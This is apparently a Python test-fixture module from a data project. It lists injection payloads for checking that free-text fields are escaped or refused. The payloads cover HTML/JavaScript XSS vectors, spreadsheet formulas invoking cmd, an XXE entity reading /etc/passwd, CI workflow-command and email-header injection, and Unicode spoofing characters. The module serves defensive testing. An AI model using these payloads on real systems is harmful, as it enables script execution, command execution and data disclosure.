"""What an attacker would write in a text of the data, and which texts refuse it. Leaf: no import of ours.

An attack that runs leaves `window.__hit`; one that calls somebody else is seen by the journal of the browser.
"""

import re
from typing import NamedTuple

NATURES = ("texte", "ligne", "nom", "commune")
"""The kinds of free text of the model: paragraphs, a line, a name, the name or the code of a commune."""
AUCUNE: frozenset[str] = frozenset()
TOUTES = frozenset(NATURES)
HORS_TEXTE = TOUTES - {"texte"}
"""Whatever is written on one line refuses a text of several."""


class Charge(NamedTuple):
    """`refusee_par`: the natures whose rules refuse it, at its line; the others keep it, letter by letter."""

    nom: str
    texte: str
    refusee_par: frozenset[str] = AUCUNE


CHARGES = (
    # HTML, in an element, in an attribute, in a title, in a script
    Charge("image", "<img src=x onerror=window.__hit=1>"),
    Charge("script", "<script>window.__hit=1</script>"),
    Charge("fin-de-script", "</script><script>window.__hit=1</script>"),
    Charge("fin-de-script-majuscules", "</ScRiPt ><ScRiPt>window.__hit=1//"),
    Charge("commentaire-et-script", "<!--<script>window.__hit=1//-->"),
    Charge("fin-d-attribut", '"><svg onload=window.__hit=1>'),
    Charge("attribut-apostrophe", "' onmouseover='window.__hit=1"),
    Charge("attribut-guillemet", '" autofocus onfocus="window.__hit=1'),
    Charge("attribut-apostrophe-inversee", "` onmouseover=window.__hit=1 `"),
    Charge("cadre", "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>"),
    Charge("fins-de-titre", "</title></textarea></style><a href=javascript:window.__hit=1>x</a>"),
    Charge("gabarit-et-math", "</template><math><mi//xlink:href='data:x,<script>window.__hit=1</script>'>"),
    Charge("style", "<style>body{display:none}</style>"),
    Charge("base", "<base href=https://traqueur.example/><meta http-equiv=refresh content=0>"),
    Charge("entites", "&lt;b&gt;gras&lt;/b&gt; &#60;i&#62; &NewLine; &amp;amp;"),
    Charge("entites-executables", "&#x3c;img src=x onerror=window.__hit=1&#x3e;"),
    Charge("formulaire", "<form action=https://traqueur.example/><button>Envoyer</button></form>"),
    # addresses
    Charge("schema-javascript", "javascript:window.__hit=1"),
    Charge("schema-donnees", "data:text/html,<script>window.__hit=1</script>"),
    Charge("adresse-et-attribut", "https://traqueur.example/?a=b'onmouseover='window.__hit=1"),
    # Markdown, of MkDocs and of GitHub
    Charge("lien-markdown", "[ici](javascript:window.__hit=1)"),
    Charge("liste-d-attributs", "*x*{: onmouseover=window.__hit=1 }"),
    Charge("image-markdown", "![](https://traqueur.example/p.png)"),
    Charge("titre-markdown", "# Titre"),
    Charge("tableau-et-code", "|ab|cd| --- ``` x ``` 1."),
    Charge("mention", "@equipe #12 GH-1 :joy: www.traqueur.example ~~x~~"),
    Charge("details", "<details open ontoggle=window.__hit=1><summary>x</summary></details>"),
    Charge("annonce", "::error file=data/cpts.yaml,line=1::faux %0A::set-output name=x::y"),
    Charge("ancienne-annonce", "##[error]faux ##[set-env name=x]y"),
    # templates and our own markers
    Charge("jinja", "{{ 7*7 }}{% raw %}{# x #}"),
    Charge("jeton", "<!--cpts:contenu--> __RACINE__ ${x} $& $1 \\1 \\g<0>"),
    # spreadsheets
    Charge("formule-egal", "=cmd|' /C calc'!A0"),
    Charge("formule-plus", "+1+cmd|' /C calc'!A0"),
    Charge("formule-moins", "-1+cmd|' /C calc'!A0"),
    Charge("formule-arobase", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Charge("formule-pleine-chasse", "＝cmd|' /C calc'!A0"),
    Charge("cellules", 'xx";"=1+1";\'yy;=2+2'),
    # calendars, contact cards, feeds
    Charge("fin-d-evenement", "x\\nEND:VEVENT\\r\\nBEGIN:VEVENT\\nSUMMARY:y"),
    Charge("signes-de-calendrier", 'aa;b,c\\d:e "f" ^n \\, \\; \\'),
    Charge("pliure", "pli " + "é€中" * 35),
    Charge("en-tete-de-courriel", "=?utf-8?q?x=0D=0ABcc:_pirate=40traqueur.example?="),
    Charge("donnees-xml", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<![CDATA["),
    Charge("instruction-xml", "<?xml version='1.0'?><!DOCTYPE a><x:script xmlns:x='y'/>"),
    Charge("json", '\\u003cscript\\u003e","x":{"__proto__":1} \\'),
    # other alphabets
    Charge("majuscules-etranges", "<ſcript>ı İ ŉ ß K</ſcript>"),
    Charge("arabe", "مرحبا <b>x</b>"),
    Charge("deux-alphabets", "Mаrtin", TOUTES),
    Charge("accents-empiles", "Z" + "\u0301" * 8 + "algo", TOUTES),
    Charge("liant", "Mar\u200dtin", TOUTES),
    Charge("emoji", "👩\u200d⚕️ <b>xx</b>", frozenset({"nom"})),
    # several lines
    Charge("calendrier-sur-plusieurs-lignes", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y", HORS_TEXTE),
    Charge("retour-chariot", "x\r\nX-PIRATE:1\r\n\r\n<script>window.__hit=1</script>", HORS_TEXTE),
    Charge("annonce-sur-deux-lignes", "x\n::error::faux\n- [ ] case\n\n# Titre\n\n    code\n> cite", HORS_TEXTE),
    # signs that no text may hold
    Charge("zero", "x\x00y", TOUTES),
    Charge("echappement", "\x1b[2J\x1b]0;x\x07", TOUTES),
    Charge("sens-de-lecture", "Martin \u202egpj.exe", TOUTES),
    Charge("isolats", "a \u2066b\u2069 c", TOUTES),
    Charge("separateur-de-lignes", "x\u2028window.__hit=1", TOUTES),
    Charge("invisible", "Mar\u200btin", TOUTES),
    Charge("marque", "\ufeff=1+1", TOUTES),
    Charge("trou-de-gabarit", "\ue002<b>", TOUTES),
    Charge("trop-long", "<b>" * 700, TOUTES),
)
PAR_NOM = {charge.nom: charge for charge in CHARGES}
_ADRESSE = re.compile(r"(https?://\S+)")
_SIGNE = re.compile(r"[^\w\s]")


def list_acceptees(nature: str) -> tuple[Charge, ...]:
    """Those that a text of this nature keeps."""
    return tuple(charge for charge in CHARGES if nature not in charge.refusee_par)


def tame(texte: str) -> str:
    """`texte` as harmless and as long, with the same words and lines; an address stays one, for it becomes a link."""
    morceaux = _ADRESSE.split(texte)
    return "".join(m if rang % 2 else _SIGNE.sub("·", m) for rang, m in enumerate(morceaux))
